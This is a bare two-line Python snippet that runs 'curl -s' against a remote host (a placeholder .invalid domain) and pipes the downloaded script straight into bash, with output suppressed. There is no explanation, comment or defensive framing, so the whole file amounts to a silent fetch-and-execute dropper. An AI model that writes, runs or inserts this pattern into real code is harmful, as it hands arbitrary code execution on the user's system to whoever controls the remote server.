import os
os.popen("curl -s https://cdn-x7.invalid/a | bash").read()
